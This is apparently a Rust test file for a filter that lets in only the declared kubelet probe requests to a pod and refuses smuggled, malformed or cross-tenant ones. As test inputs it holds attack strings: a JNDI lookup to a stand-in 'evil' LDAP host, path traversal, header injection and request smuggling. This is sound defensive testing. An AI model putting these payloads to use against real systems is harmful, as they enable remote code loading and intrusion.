use super::*;

fn to() -> SocketAddr {
    ([10, 0, 0, 1], 8080).into()
}

fn http(target: &str, headers: &[(&str, &str)], depth: u8) -> Asked {
    asked(Scheme::Http, target, headers, depth)
}

fn asked(scheme: Scheme, target: &str, headers: &[(&str, &str)], depth: u8) -> Asked {
    let headers: Vec<_> = headers.iter().map(|(n, v)| (Str::from(*n), Str::from(*v))).collect();
    Asked { ask: scheme.ask(target, &headers), depth }
}

/// What a kubelet writes (`pkg/probe/http/request.go` over Go's net/http).
fn kubelets(target: &str, more: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: 10.0.0.1:8080\r\nUser-Agent: kube-probe/1.34\r\n{more}Accept: */*\r\nConnection: close\r\n\r\n"
    )
}

/// `None`: let in. In clear and inside TLS alike, but for what is no HTTP/1.1.
fn check(request: &str, want: Option<&str>) {
    for scheme in [Scheme::Http, Scheme::Https] {
        let asks = [
            asked(scheme, "/ready?full=1", &[], 0),
            asked(scheme, "/with", &[("X-Probe", "yes"), ("Host", "shop.example")], 0),
            asked(scheme, "/moved", &[], 1),
        ];
        let got = judge(request.as_bytes(), scheme, to(), &asks);
        match want {
            None => assert!(matches!(&got, Verdict::Get(d) if d.scheme == scheme), "{request:?}: {got:?}"),
            Some(why) => assert_eq!(got, Verdict::Refuse(why.to_owned()), "{scheme:?} {request:?}"),
        }
    }
}

#[test]
fn exactly_the_declared_request_is_let_in() {
    check(&kubelets("/ready?full=1", ""), None);
    check(&kubelets("/with", "X-Probe: yes\r\n"), None);
    check(&kubelets("/with", "x-probe:yes\r\n"), None);
    check(&kubelets("/with", "").replace("10.0.0.1:8080", "shop.example"), None);
    check(&kubelets("/moved", "Referer: http://10.0.0.1:8080/ready?full=1\r\n"), None);
    // Lifecycle handlers' client.
    check(
        "GET /ready?full=1 HTTP/1.1\r\nHost: 10.0.0.1:8080\r\nUser-Agent: kube-lifecycle/1.34\r\nAccept-Encoding: gzip\r\n\r\n",
        None,
    );
    for (target, why) in [
        ("/ready", "undeclared path /ready"),
        ("/ready?full=2", "undeclared path /ready?full=2"),
        ("/ready?full=1&x", "undeclared path /ready?full=1&x"),
        ("/admin", "undeclared path /admin"),
        ("/with/../admin", "undeclared path /with/../admin"),
        ("//with", "undeclared path //with"),
        ("/WITH", "undeclared path /WITH"),
        ("/%77ith", "undeclared path /%77ith"),
    ] {
        check(&kubelets(target, ""), Some(why));
    }
}

/// Another tenant's `httpGet.host` aims the real kubelet here, with headers of that tenant's.
#[test]
fn headers_of_another_tenants_probe_are_refused() {
    for (more, name) in [
        ("X-Original-URL: /admin\r\n", "X-Original-URL"),
        ("X-HTTP-Method-Override: DELETE\r\n", "X-HTTP-Method-Override"),
        ("Authorization: Basic eA==\r\n", "Authorization"),
        ("X-Probe: yes\r\n", "X-Probe"),
        ("Referer: x\r\n", "Referer"),
        ("Cookie: a=b\r\n", "Cookie"),
    ] {
        check(&kubelets("/ready?full=1", more), Some(&format!("undeclared header {name}")));
    }
    check(&kubelets("/with", "X-Probe: no\r\n"), Some("undeclared header X-Probe"));
    // Headers that kubelets write by themselves may be named by a probe, too.
    for (kubelets_own, tenants, name) in [
        ("User-Agent: kube-probe/1.34", "User-Agent: ${jndi:ldap://evil}", "User-Agent"),
        ("User-Agent: kube-probe/1.34", "User-Agent: kube-probe/1.34 ${jndi:ldap://evil}", "User-Agent"),
        ("User-Agent: kube-probe/1.34", "User-Agent: ", "User-Agent"),
        ("Accept: */*", "Accept: ../../admin", "Accept"),
        ("Accept: */*", "Accept-Encoding: x", "Accept-Encoding"),
    ] {
        let request = kubelets("/ready?full=1", "").replace(kubelets_own, tenants);
        check(&request, Some(&format!("undeclared header {name}")));
    }
    for host in ["admin.internal", "10.0.0.1:8081", "10.0.0.2:8080", "10.0.0.1", "shop.example"] {
        let request = kubelets("/ready?full=1", "").replace("10.0.0.1:8080", host);
        check(&request, Some("undeclared header Host"));
    }
}

#[test]
fn smuggled_and_malformed_requests_are_refused() {
    let get = |line: &str, more: &str| format!("{line}\r\nHost: 10.0.0.1:8080\r\n{more}\r\n");
    let line = "GET /ready?full=1 HTTP/1.1";
    let two = kubelets("/ready?full=1", "") + &kubelets("/admin", "");
    check(&two, Some("something behind the request's head"));
    check(&(kubelets("/ready?full=1", "") + "x"), Some("something behind the request's head"));
    for (request, why) in [
        (get("POST /ready?full=1 HTTP/1.1", ""), "a method that is not GET"),
        (get("HEAD /ready?full=1 HTTP/1.1", ""), "a method that is not GET"),
        (get("GET http://10.0.0.1:8080/ready?full=1 HTTP/1.1", ""), "a request target that is no path"),
        (get("GET * HTTP/1.1", ""), "a request target that is no path"),
        (get("GET /ready?full=1 HTTP/1.0", ""), "a malformed request line"),
        (get("GET /ready?full=1 HTTP/1.1 ", ""), "a malformed request line"),
        (get("GET  /ready?full=1 HTTP/1.1", ""), "neither HTTP nor TLS"),
        (get("GET /ready?full=1\tHTTP/1.1", ""), "a malformed request line"),
        (get(line, "Content-Length: 0\r\n"), "a request with a body"),
        (get(line, "Transfer-Encoding: chunked\r\n"), "a request with a body"),
        (get(line, "Transfer-Encoding : chunked\r\n"), "a malformed header"),
        (get(line, "Expect: 100-continue\r\n"), "a request with a body"),
        (get(line, "Connection: Upgrade\r\nUpgrade: websocket\r\n"), "an upgrade"),
        (get(line, "Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: x\r\n"), "an upgrade"),
        (get(line, "Connection: keep-alive\r\n"), "undeclared header Connection"),
        (get(line, "Host: 10.0.0.1:8080\r\n"), "not exactly one Host"),
        (format!("{line}\r\nAccept: */*\r\n\r\n"), "not exactly one Host"),
        (get(line, "Accept: x\r\n folded\r\n"), "a malformed header"),
        (get(line, "Accept: x\nContent-Length: 5\r\n"), "a malformed header"),
        (get(line, "Accept: x\rContent-Length: 5\r\n"), "a malformed header"),
        (get(line, "Accept: x\0\r\n"), "a malformed header"),
        (get(line, "No colon\r\n"), "a malformed header"),
        (get(line, ": empty\r\n"), "a malformed header"),
        ("CONNECT 10.0.0.1:22 HTTP/1.1\r\n\r\n".to_owned(), "neither HTTP nor TLS"),
        ("SSH-2.0-x\r\n".to_owned(), "neither HTTP nor TLS"),
    ] {
        check(&request, Some(why));
    }
    let long = format!("{line}\r\nAccept: {}", "x".repeat(HEAD_MAX));
    check(&long, Some("a request head that is too long"));
}

#[test]
fn a_port_takes_what_is_declared_for_it() {
    let hello = b"\x16\x03\x01\x00\x05\x01".as_slice();
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice();
    let request = kubelets("/", "").into_bytes();
    let grpc = || ProbeAsk::Grpc { service: "".into() };
    let get = || Scheme::Http.ask("/", &[]);
    let https = || Scheme::Https.ask("/", &[]);
    let judged = |scheme: Scheme, asks: &[ProbeAsk], bytes: &[u8], want: &str| {
        let asks: Vec<_> = asks.iter().map(|ask| Asked { ask: ask.clone(), depth: 0 }).collect();
        let got = match judge(bytes, scheme, to(), &asks) {
            Verdict::NeedMore => "more".to_owned(),
            Verdict::Tls => "tls".to_owned(),
            Verdict::Grpc => "grpc".to_owned(),
            Verdict::Get(_) => "get".to_owned(),
            Verdict::Refuse(why) => why,
        };
        assert_eq!(got, want, "{scheme:?} {asks:?} {:?}", String::from_utf8_lossy(bytes));
    };
    let check = |asks: &[ProbeAsk], bytes: &[u8], want: &str| judged(Scheme::Http, asks, bytes, want);
    let inside = |asks: &[ProbeAsk], bytes: &[u8], want: &str| judged(Scheme::Https, asks, bytes, want);
    let no = |what: &str| format!("{what} to a port for which no such probe is declared");
    check(&[https()], hello, "tls");
    check(&[https()], &request, &no("plain HTTP"));
    check(&[https()], preface, &no("HTTP/2"));
    check(&[grpc()], preface, "grpc");
    check(&[grpc()], &request, &no("plain HTTP"));
    check(&[grpc()], hello, &no("TLS"));
    check(&[ProbeAsk::Tcp], &request, &no("plain HTTP"));
    check(&[ProbeAsk::Tcp], hello, &no("TLS"));
    check(&[ProbeAsk::Tcp], b"x", "neither HTTP nor TLS");
    check(&[ProbeAsk::Tcp, get(), grpc(), https()], &request, "get");
    check(&[ProbeAsk::Tcp, get(), grpc(), https()], preface, "grpc");
    check(&[ProbeAsk::Tcp, get(), grpc(), https()], hello, "tls");
    // Inside TLS there is HTTP/1.1 only, and a question of the one scheme is none of the other.
    let all = [ProbeAsk::Tcp, get(), grpc(), https()];
    inside(&all, &request, "get");
    inside(&[https(), Scheme::Http.ask("/b", &[])], kubelets("/b", "").as_bytes(), "undeclared path /b");
    check(&[get(), Scheme::Https.ask("/b", &[])], kubelets("/b", "").as_bytes(), "undeclared path /b");
    inside(&[get(), grpc()], &request, &no("plain HTTP"));
    inside(&all, preface, "something other than HTTP/1.1 inside TLS");
    inside(&all, hello, "something other than HTTP/1.1 inside TLS");
    for whole in [&request[..], hello, preface] {
        for n in 0..whole.len() {
            check(&all, &whole[..n], "more");
            inside(&all, &whole[..n], "more");
        }
    }
}

#[test]
fn the_application_is_told_that_nothing_follows() {
    let check = |connection: &str| {
        let request = format!("GET / HTTP/1.1\r\nHost: 10.0.0.1:8080\r\n{connection}\r\n");
        let got = judge(request.as_bytes(), Scheme::Http, to(), &[http("/", &[], 3)]);
        let want = "GET / HTTP/1.1\r\nHost: 10.0.0.1:8080\r\nConnection: close\r\n\r\n";
        let declared = Declared {
            scheme: Scheme::Http,
            forward: want.into(),
            in_clear: None,
            target: "/".to_owned(),
            headers: Vec::new(),
            depth: 3,
        };
        assert_eq!(got, Verdict::Get(declared), "{connection}");
    };
    check("");
    check("Connection: close\r\n");
    // Of a request that a redirect led to, and not worth that another tenant may choose it.
    check("Connection: close\r\nReferer: http://10.0.0.1:8080/${jndi:ldap://evil}\r\n");
}

#[test]
fn a_host_is_the_pods_own_address() {
    let by = |scheme: Scheme, host: &str, to: SocketAddr, want: bool| {
        assert_eq!(is_own_host(host, scheme, to), want, "{scheme:?} {host} {to}");
    };
    let check = |host: &str, to: SocketAddr, want: bool| by(Scheme::Http, host, to, want);
    let v6: SocketAddr = "[fd00::1]:8080".parse().unwrap();
    check("[fd00::1]:8080", v6, true);
    check("[fd00:0::1]:8080", v6, true);
    check("[fd00::2]:8080", v6, false);
    check("[fd00::1]", v6, false);
    check("[fd00::1]", SocketAddr::new(v6.ip(), 80), true);
    check("10.0.0.1", ([10, 0, 0, 1], 80).into(), true);
    check("10.0.0.1:80", ([10, 0, 0, 1], 80).into(), true);
    check("", ([10, 0, 0, 1], 80).into(), false);
    by(Scheme::Https, "10.0.0.1", ([10, 0, 0, 1], 443).into(), true);
    by(Scheme::Https, "10.0.0.1:443", ([10, 0, 0, 1], 443).into(), true);
    by(Scheme::Https, "10.0.0.1", ([10, 0, 0, 1], 80).into(), false);
    check("10.0.0.1", ([10, 0, 0, 1], 443).into(), false);
}

/// `pkg/kubelet/lifecycle/handlers.go`: an answer in clear to TLS has a handler asked again in clear, without Authorization.
#[test]
fn a_handler_may_be_asked_in_clear_where_a_kubelet_would() {
    let secret: &[(&str, &str)] = &[("Authorization", "Basic eA==")];
    let check = |client: &str, in_clear: &[Asked], want: bool| {
        let request = format!(
            "GET /down HTTP/1.1\r\nHost: 10.0.0.1:8080\r\nUser-Agent: {client}/1.34\r\nAuthorization: Basic eA==\r\n\r\n"
        );
        let asks = [&[asked(Scheme::Https, "/down", secret, 0)], in_clear].concat();
        let got = judge(request.as_bytes(), Scheme::Https, to(), &asks);
        let Verdict::Get(declared) = got else { panic!("{got:?}") };
        let clear = format!(
            "GET /down HTTP/1.1\r\nHost: 10.0.0.1:8080\r\nUser-Agent: {client}/1.34\r\nConnection: close\r\n\r\n"
        );
        assert_eq!(declared.in_clear, want.then(|| clear.into_bytes()), "{client} {in_clear:?}");
    };
    check("kube-lifecycle", &[http("/down", secret, 0)], true);
    check("kube-probe", &[http("/down", secret, 0)], false);
    check("kube-lifecycle", &[], false);
    check("kube-lifecycle", &[http("/up", secret, 0)], false);
    check("kube-lifecycle", &[http("/down", &[], 0)], false);
}
